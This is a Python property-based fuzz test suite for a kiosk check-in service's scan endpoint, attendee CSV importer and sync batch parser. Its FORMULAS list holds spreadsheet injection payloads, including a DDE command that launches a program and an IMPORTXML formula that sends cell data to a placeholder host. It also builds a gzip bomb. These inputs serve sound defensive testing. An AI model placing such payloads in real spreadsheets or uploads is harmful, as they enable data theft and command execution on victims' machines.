"""Hypothesis fuzzing of what reads outside input: scan codes, attendee CSV files, sync batches.

Each property is what the venue needs from garbage: a result code or a clean refusal, never a
server error, never a half-applied file or batch.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import sqlite3

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kiosk.db import open_db
from kiosk.desk import importer, reports
from kiosk.desk.checkin import clean_code
from kiosk.replication import peering as replication
from kiosk.replication.node import load_node
from sync import admission, server
from sync.protocol import ProtocolError

FUZZ = settings(max_examples=150, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
RESULTS = {"checked_in", "already_checked_in", "cancelled", "unknown_code", "not_valid_now",
           "blocked"}  # fmt: skip
# Any text: control characters, lone surrogates, every plane.
ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=300)
HUGE_TEXT = st.integers(4000, 70_000).map(lambda n: "K" * n)


# -- the scan decoder --------------------------------------------------------------------------


@FUZZ
@given(raw=st.one_of(ANY_TEXT, HUGE_TEXT))
def test_clean_code_gives_a_code_or_none(raw):
    code = clean_code(raw)
    assert code is None or (code == code.strip() and 0 < len(code) <= len(raw))


def _assert_scan_answer(response):
    assert response.status_code < 500, response.get_data(as_text=True)[:300]
    assert response.is_json
    body = response.get_json()
    if response.status_code == 200:
        assert body["result"] in RESULTS
    else:
        assert 400 <= response.status_code < 500 and body["error"] and body["message"]


@pytest.fixture
def desk_h(make_token):
    return make_token("desk", "fuzz scanner")


@FUZZ
@given(raw=st.one_of(ANY_TEXT, HUGE_TEXT))
def test_any_code_gets_a_result_or_a_json_4xx(client, desk_h, raw):
    # ensure_ascii writes lone surrogates as \udXXX escapes, valid JSON a scanner could send
    body = json.dumps({"code": raw, "desk": "fuzz"})
    response = client.post("/api/v1/scan", data=body, content_type="application/json",
                           headers=desk_h)  # fmt: skip
    _assert_scan_answer(response)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | ANY_TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(ANY_TEXT, inner, max_size=4),
    max_leaves=12,
)


@FUZZ
@given(fields=st.dictionaries(st.sampled_from(["code", "desk", "op_id", "x"]), JSON_VALUES))
def test_any_scan_body_shape_gets_a_result_or_a_json_4xx(client, desk_h, fields):
    response = client.post("/api/v1/scan", data=json.dumps(fields),
                           content_type="application/json", headers=desk_h)  # fmt: skip
    _assert_scan_answer(response)


@FUZZ
@given(raw=st.binary(max_size=400))
def test_any_scan_bytes_get_a_result_or_a_json_4xx(client, desk_h, raw):
    response = client.post("/api/v1/scan", data=raw, content_type="application/json",
                           headers=desk_h)  # fmt: skip
    _assert_scan_answer(response)


# -- the attendee CSV importer ------------------------------------------------------------------

HEADER = "attendee_id,code,first_name,last_name,email,company,ticket_type,status"
FORMULAS = ['=HYPERLINK("http://x","y")', "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")']  # fmt: skip
CELL = st.one_of(st.sampled_from(FORMULAS), ANY_TEXT, st.text(max_size=250),
                 st.sampled_from(['"', '""', 'a"b', ";", ",", "\n", "\ufeff", ""]))  # fmt: skip
LINE_ERROR = re.compile(r"^line \d+: [^\n]+$")


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


@st.composite
def csv_files(draw) -> bytes:
    """Mostly well-formed files with hostile cells, in one of the encodings people send."""
    rows = draw(st.lists(st.lists(CELL, min_size=8, max_size=9), max_size=6))
    text = _csv([HEADER.split(","), *rows], draw(st.sampled_from([",", ";"])))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"]))
    return (
        text.encode(encoding, errors="replace")
        if encoding != "utf-8"
        else text.encode("utf-8", errors="surrogatepass")
    )


def _import(db: sqlite3.Connection, data: bytes) -> bool:
    """True if imported; a refusal must be one line naming a line of the file."""
    before = db.execute("SELECT count(*) FROM op").fetchone()[0]
    try:
        importer.import_attendees(db, load_node(db), data)
    except importer.CsvError as exc:
        assert LINE_ERROR.match(str(exc)), str(exc)
        assert db.execute("SELECT count(*) FROM op").fetchone()[0] == before  # all or nothing
        return False
    return True


@pytest.fixture
def fuzz_db(tmp_path):
    db = open_db(tmp_path / "fuzz.sqlite3")
    load_node(db)
    yield db
    db.close()


@FUZZ
@given(data=st.binary(max_size=2000))
def test_random_bytes_import_or_name_a_line(fuzz_db, data):
    _import(fuzz_db, data)


@FUZZ
@given(data=csv_files())
def test_hostile_csv_imports_or_names_a_line(fuzz_db, data):
    _import(fuzz_db, data)


def _exported_cells(db: sqlite3.Connection) -> list[str]:
    out = io.StringIO()
    reports.export_checkins(db, out)
    return [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]


@FUZZ
@given(formula=st.sampled_from(FORMULAS), tail=st.text(max_size=20))
def test_formulas_are_neutralised_in_the_export(fuzz_db, formula, tail):
    name = (formula + tail)[: importer.MAX_CELL]
    data = _csv([HEADER.split(","), ["a-f", "KN-FORMULA", name, name, "", name, "", ""]])
    if _import(fuzz_db, data.encode()):
        for cell in _exported_cells(fuzz_db):
            assert not cell.startswith(reports._FORMULA_START), cell


@FUZZ
@given(value=ANY_TEXT)
def test_neutralise_never_leaves_a_formula(value):
    cell = reports.neutralise(value)
    assert not cell.startswith(reports._FORMULA_START)
    assert cell in (value, "'" + value)


# -- the sync batch parser ---------------------------------------------------------------------

OP_KEYS = ["op_id", "origin", "hlc", "kind", "entity", "payload"]
OPS = st.one_of(JSON_VALUES, st.dictionaries(st.sampled_from(OP_KEYS), JSON_VALUES, max_size=6),
                st.fixed_dictionaries({"op_id": st.uuids().map(str),
                                       "origin": st.just("n1"),
                                       "hlc": st.sampled_from(["1764300000000-00000-n1", "x", ""]),
                                       "kind": st.text(max_size=70), "entity": ANY_TEXT,
                                       "payload": JSON_VALUES}))  # fmt: skip
BATCH = {"node_id": st.one_of(st.just("n1"), JSON_VALUES), "ops": st.lists(OPS, max_size=5)}
BATCHES = st.one_of(JSON_VALUES, st.fixed_dictionaries(BATCH))


@FUZZ
@given(body=BATCHES)
def test_parse_batch_refuses_with_400_or_413(body):
    try:
        sender, ops = admission.parse_batch(body)
    except ProtocolError as exc:
        assert exc.status in (400, 413) and exc.message
    else:
        assert isinstance(sender, str) and all(op.origin for op in ops)


def _ops(db: sqlite3.Connection) -> int:
    return db.execute("SELECT count(*) FROM op").fetchone()[0]


def _push(db: sqlite3.Connection, body: bytes, encoding: str | None = None) -> int:
    local = replication.local(db)
    local.max_body = 64 * 1024
    request = server.Request("POST", "/sync/v1/push", {}, body, encoding, None)
    status, answer = server.handle(local, request)
    assert status in (200, 400, 403, 413), (status, answer)
    assert status == 200 or (answer["error"] and answer["message"])
    return status


@FUZZ
@given(body=BATCHES)
def test_a_refused_push_applies_nothing(fuzz_db, body):
    before = _ops(fuzz_db)
    if _push(fuzz_db, json.dumps(body).encode()) != 200:
        assert _ops(fuzz_db) == before


@FUZZ
@given(raw=st.binary(max_size=600), encoding=st.sampled_from([None, "gzip", "br", "GZIP "]))
def test_push_of_random_bytes_is_refused(fuzz_db, raw, encoding):
    before = _ops(fuzz_db)
    if _push(fuzz_db, raw, encoding) != 200:
        assert _ops(fuzz_db) == before


@pytest.mark.parametrize("size", [64 * 1024 + 1, 8 * 1024 * 1024])
def test_gzip_bomb_is_413_and_applies_nothing(fuzz_db, size):
    bomb = gzip.compress(b'{"node_id": "n1", "ops": [' + b" " * size + b"]}", compresslevel=9)
    before = _ops(fuzz_db)
    assert _push(fuzz_db, bomb, "gzip") == 413
    assert _ops(fuzz_db) == before
